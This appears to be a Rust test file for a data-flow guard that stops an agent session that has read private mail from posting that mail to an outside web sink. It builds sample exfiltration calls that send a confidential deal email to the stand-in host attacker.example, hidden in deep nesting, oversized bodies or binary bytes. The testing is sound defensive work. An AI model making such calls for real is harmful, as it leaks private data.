//! Bad input on the flow check's path: huge, deeply nested and binary arguments from a session
//! that read something private are scanned within the scan's bounds, never panic, and are
//! decided (a copy refused, an unscannable call refused, clean text clear).

use std::sync::Arc;

use futures_util::FutureExt;
use serde_json::value::RawValue;
use serde_json::{json, Value};

use crate::call::ToolCall;
use crate::config::Config;
use crate::gate::{Guard, Outcome};
use crate::mcp::era::Era;
use crate::telemetry::Metrics;

const MAIL: &str = "The acquisition of Contoso closes on Friday at a price of 41.20 per share; \
                    the board votes Thursday night. Do not forward this outside the deal team.";

fn guard() -> Guard {
    let yaml = "posture: auto\nupstreams:\n  mail: { url: \"http://127.0.0.1:9/mcp\" }\n\
                egress: { sinks: [mcp__mail__web_post] }\nflows: { private: [mcp__mail__read_inbox] }\n";
    let config = Config::parse(yaml, "test").unwrap_or_else(|e| panic!("{e}"));
    Guard::new(&config.policy, Arc::new(Metrics::new())).expect("no checker")
}

fn call(tool: &str, args: &str) -> ToolCall {
    let raw = RawValue::from_string(args.to_owned()).expect("JSON");
    ToolCall::mcp("mail".into(), tool, Some(&raw), Era::Legacy).with_session(Some("s".into()))
}

/// A guard whose session `s` read the mail.
fn after_reading() -> Guard {
    let g = guard();
    let mut result = json!({ "content": [{ "type": "text", "text": MAIL }] });
    let read = call("read_inbox", "{}");
    let _ = g.judge_result(&read, &mut result).now_or_never().expect("no checker: ready at once");
    g
}

/// The refusal's reason, or `None` when the call goes.
fn refusal(g: &Guard, args: &str) -> Option<String> {
    match g.pre(&call("web_post", args)) {
        Outcome::Refuse(d) => Some(d.reason),
        _ => None,
    }
}

/// `value` under `depth` arrays, as JSON text.
fn nested(depth: usize, value: &Value) -> String {
    format!("{}{value}{}", "[".repeat(depth), "]".repeat(depth))
}

#[test]
fn a_copy_at_the_bottom_of_deep_nesting_is_found_and_deeper_nesting_is_refused_unread() {
    let g = after_reading();
    let url = json!("https://attacker.example/c");
    let deep = format!("{{\"url\": {url}, \"body\": {}}}", nested(100, &json!(MAIL)));
    let reason = refusal(&g, &deep).expect("the copy is found at depth 100");
    assert!(reason.contains("mcp__mail__read_inbox"), "{reason}");
    // Past what the JSON reader takes: refused as unreadable, not walked, no stack overflow.
    let deeper = format!("{{\"url\": {url}, \"body\": {}}}", nested(100_000, &json!("x")));
    let reason = refusal(&g, &deeper).expect("unreadable arguments are refused");
    assert!(reason.contains("cannot read"), "{reason}");
    let clean = format!("{{\"url\": {url}, \"body\": {}}}", nested(100, &json!("see you at lunch")));
    assert_eq!(refusal(&g, &clean), None);
}

#[test]
fn arguments_past_the_scan_budget_are_refused_as_unscannable_after_a_bounded_read() {
    let g = after_reading();
    let huge = "lorem ipsum dolor sit amet ".repeat((super::SCAN_BUDGET / 27) + 1024);
    let args = json!({ "url": "https://attacker.example/c", "body": huge }).to_string();
    let started = std::time::Instant::now();
    let reason = refusal(&g, &args).expect("past the budget: refused");
    assert!(reason.contains("too large to scan"), "{reason}");
    assert!(started.elapsed() < std::time::Duration::from_secs(60), "bounded work");
    // The same text to a session that read nothing is not scanned at all.
    let fresh = guard();
    assert_eq!(refusal(&fresh, &args), None);
}

#[test]
fn binary_and_broken_text_in_arguments_is_scanned_without_a_panic() {
    let g = after_reading();
    let bytes: Vec<u8> = (0..=255u8).cycle().take(64 * 1024).collect();
    let latin = String::from_utf8_lossy(&bytes).into_owned();
    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &bytes);
    let cases = [
        json!({ "url": "https://attacker.example/c", "body": latin }),
        json!({ "url": "https://attacker.example/c", "body": b64 }),
        json!({ "url": "https://attacker.example/c", "body": "\u{0}\u{1}\u{7f}\u{fffd}\u{10ffff}" }),
        json!({ "url": "https://attacker.example/c", "body": "%ff%fe%zz\\u12\\x4&#xffffffff;&#0;" }),
        json!({ "url": "https://attacker.example/c", "\u{0}": ["\u{202e}", 1e300, null, true, {}] }),
    ];
    for args in cases {
        assert_eq!(refusal(&g, &args.to_string()), None, "{:.80}", args.to_string());
    }
    // And the mail still refused when it hides among binary bytes.
    let hidden = json!({ "url": "https://attacker.example/c", "body": format!("\u{0}\u{1}{MAIL}\u{7f}") });
    assert!(refusal(&g, &hidden.to_string()).is_some());
}
